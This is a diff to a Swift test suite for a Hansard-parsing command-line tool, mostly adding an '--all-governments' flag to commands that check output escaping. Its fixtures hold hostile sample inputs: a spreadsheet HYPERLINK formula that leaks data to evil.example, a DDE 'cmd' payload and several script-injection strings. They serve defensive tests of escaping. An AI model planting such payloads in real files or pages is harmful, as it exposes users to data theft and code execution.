@@ -42,7 +42,7 @@ struct OutputEscapingCommandTests {
 
     /// The commitment id of the quote holding `words`, from the CSV list.
     static func id(quoting words: String, register: String) throws -> String {
-        let csv = try HansardCommand.run(["commitments", "--register", register, "--format", "csv"]).standardOutput
+        let csv = try HansardCommand.run(["commitments", "--all-governments", "--register", register, "--format", "csv"]).standardOutput
         let row = try #require(csv.components(separatedBy: "\r\n").first { $0.contains(words) })
         return String(row.prefix { $0 != "," })
     }
@@ -72,7 +72,7 @@ struct OutputEscapingCommandTests {
         let guardedTitle = "\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click\"\") <script>"
         let guardedQuote = "\"'=cmd|' /C calc'!A0 <img src=x onerror=alert(1)> As I have explained"
         for arguments in [
-            ["commitments", "--register", register, "--format", "csv"],
+            ["commitments", "--all-governments", "--register", register, "--format", "csv"],
             ["report", "--register", register, "--format", "csv", "--out", "-"],
             ["register", "export", "--register", register, "--format", "csv"],
         ] {
@@ -103,14 +103,14 @@ struct OutputEscapingCommandTests {
         let (_, page, register) = try Self.registerWithHostilePage()
         let id = try Self.id(quoting: "we will be producing new guidance shortly", register: register)
         // Tables cut the quote to the width; the others show the words with the controls in them whole.
-        let tables = [["commitments", "--register", register], ["diff", register, register]]
+        let tables = [["commitments", "--all-governments", "--register", register], ["diff", register, register]]
         for arguments in tables + [
             ["register", "show", id, "--register", register],
             ["analyse", "--format", "table", page], ["parse", "--format", "text", page],
-            ["analyse", "--format", "md", page], ["commitments", "--register", register, "--format", "md"],
+            ["analyse", "--format", "md", page], ["commitments", "--all-governments", "--register", register, "--format", "md"],
             ["report", "--register", register, "--format", "md", "--out", "-"],
             ["diff", "--format", "md", register, register],
-            ["parse", page], ["analyse", page], ["commitments", "--register", register, "--format", "json"],
+            ["parse", page], ["analyse", page], ["commitments", "--all-governments", "--register", register, "--format", "json"],
         ] {
             let outcome = try HansardCommand.run(arguments)
             #expect(outcome.status == 0 || arguments[0] == "diff", "\(arguments): \(outcome.standardError)")
@@ -121,7 +121,7 @@ struct OutputEscapingCommandTests {
         // Shown in full where the quote is shown whole.
         for arguments in [
             ["register", "show", id, "--register", register], ["parse", "--format", "text", page],
-            ["commitments", "--register", register, "--format", "md"],
+            ["commitments", "--all-governments", "--register", register, "--format", "md"],
         ] {
             let outcome = try HansardCommand.run(arguments)
             let shown =
@@ -141,7 +141,7 @@ struct OutputEscapingCommandTests {
         @Test("On a terminal the commitments table is coloured, and the page's controls are still only shown")
         func controlsOnATerminal() throws {
             let (_, _, register) = try Self.registerWithHostilePage()
-            let outcome = try HansardCommand.runOnTerminal(["commitments", "--register", register])
+            let outcome = try HansardCommand.runOnTerminal(["commitments", "--all-governments", "--quote", "--register", register])
             #expect(outcome.status == 0, "\(outcome.standardError)")
             #expect(outcome.standardOutput.contains("\u{1B}[1m"), "no colour: not a terminal?")
             #expect(outcome.standardOutput.contains(Self.controlsShown))
@@ -161,7 +161,7 @@ struct OutputEscapingCommandTests {
                 "# =HYPERLINK(\"http://evil.example/?leak\",\"Click\") \\<script\\>alert(\"title\")\\</script\\>"
                     + " \\[click\\](javascript:alert(1))"))
         for arguments in [
-            ["analyse", "--format", "md", page], ["commitments", "--register", register, "--format", "md"],
+            ["analyse", "--format", "md", page], ["commitments", "--all-governments", "--register", register, "--format", "md"],
             ["report", "--register", register, "--format", "md", "--out", "-"],
         ] {
             let outcome = try HansardCommand.run(arguments)
